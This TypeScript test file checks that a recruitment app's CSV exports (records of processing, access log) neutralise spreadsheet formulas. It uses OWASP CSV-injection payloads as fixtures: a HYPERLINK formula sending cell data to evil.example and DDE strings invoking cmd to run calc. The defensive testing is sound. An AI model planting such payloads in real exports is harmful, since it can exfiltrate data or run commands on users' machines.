import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runCli } from '../../../src/cli'
import { insertAccessLog } from '../../../src/modules/audit/audit.repository'
import { startTestApp, type TestApp } from '../../helpers/app'
import { parseCsv } from '../../helpers/csv'
import { json, type SeededVacancy, seedOpenVacancy } from '../../helpers/seed'

/** What a recruiter could type that a spreadsheet would run (OWASP: CSV Injection). */
const TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
const CLIENT = "@SUM(1+1)*cmd|' /C calc'!A0"
const ROUTE = "-2+3+cmd|' /C calc'!A0"

let t: TestApp
let vacancy: SeededVacancy

beforeAll(async () => {
  t = await startTestApp()
  t.clock.set('2026-03-02T09:00:00Z')
  vacancy = await seedOpenVacancy(t, { title: TITLE, clientName: CLIENT })
})
afterAll(() => t.close())

/** The CSV's rows as objects by column name. */
function rowsOf(csv: string): Array<Record<string, string>> {
  const [columns, ...rows] = parseCsv(csv)
  return rows.map((row) => Object.fromEntries(columns!.map((column, i) => [column, row[i] ?? ''])))
}

const formulaStart = /^[=+\-@\t\r]/

describe('CSV exports open in a spreadsheet as text', () => {
  it('the records of processing, from the API and the CLI alike', async () => {
    const response = await t.request({ method: 'GET', url: '/dpo/records?format=csv', as: vacancy.dpo })
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toContain('text/csv')
    const row = rowsOf(response.body).find((entry) => entry.client === `'${CLIENT}`)
    expect(row?.['purpose (vacancy)']).toBe(`'${TITLE}`)
    for (const cell of parseCsv(response.body).flat()) expect(cell).not.toMatch(formulaStart)

    const out = join(t.config.DATA_DIR, 'records.csv')
    await runCli(
      ['records:export', '--format', 'csv', '--out', out],
      {
        DATABASE_URL: t.databaseUrl,
        DATA_DIR: t.config.DATA_DIR,
        SERVER_SECRET: t.config.SERVER_SECRET,
        FIELD_ENCRYPTION_KEYS: t.config.FIELD_ENCRYPTION_KEYS,
      },
      { clock: t.clock },
    )
    expect(readFileSync(out, 'utf8')).toBe(response.body)

    // Only the CSV is made safe for spreadsheets: the JSON keeps what was typed.
    const record = json<{ purposes: Array<{ name: string; client: string }> }>(
      await t.request({ method: 'GET', url: '/dpo/records', as: vacancy.dpo }),
      200,
    )
    expect(record.purposes).toContainEqual(expect.objectContaining({ name: TITLE, client: CLIENT }))
  })

  it('the access log', async () => {
    await insertAccessLog(t.app.db, [
      { userId: vacancy.dpo.id, action: 'export', route: ROUTE, at: t.clock.now() },
    ])
    const response = await t.request({ method: 'GET', url: '/dpo/access-log?format=csv', as: vacancy.dpo })
    expect(response.statusCode).toBe(200)
    const rows = rowsOf(response.body)
    expect(rows).toContainEqual(expect.objectContaining({ userId: vacancy.dpo.id, route: `'${ROUTE}` }))
    for (const cell of parseCsv(response.body).flat()) expect(cell).not.toMatch(formulaStart)
  })
})
